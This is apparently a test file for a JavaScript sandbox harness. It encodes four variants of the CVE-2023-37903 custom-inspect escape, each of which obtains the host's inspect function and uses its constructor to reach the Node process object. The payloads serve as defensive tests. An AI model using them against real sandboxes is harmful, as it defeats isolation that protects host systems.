import { escapeClass } from '../harness/escape-class.js';

const INSPECT = `Symbol.for('nodejs.util.inspect.custom')`;

export default escapeClass({
  name: 'custom inspection',
  from: 'CVE-2023-37903',
  rules: ['R4'],
  out: "a method of the guest is called by Node's inspect, with functions that lead to its process",
  bare: 'vm',
  attempts: {
    'of params': `let got; await world.grants.neighbour.echo({ text: 'x', [${INSPECT}](depth, options, inspect) { got = inspect; return 'x'; } }).catch(() => {}); return isProcess(got.constructor('return process')());`,
    'of a field': `let got; await world.grants.log.write({ level: 'info', message: 'x', more: { [${INSPECT}](depth, options, inspect) { got = inspect; return 'x'; } } }).catch(() => {}); return isProcess(got.constructor('return process')());`,
    'by a getter': `let got; await world.grants.neighbour.echo({ text: 'x', get [${INSPECT}]() { return (depth, options, inspect) => { got = inspect; return 'x'; }; } }).catch(() => {}); return isProcess(got.constructor('return process')());`,
    inherited: `let got; const params = { __proto__: { [${INSPECT}](depth, options, inspect) { got = inspect; return 'x'; } }, text: 'x' }; await world.grants.neighbour.echo(params).catch(() => {}); return isProcess(got.constructor('return process')());`,
  },
});
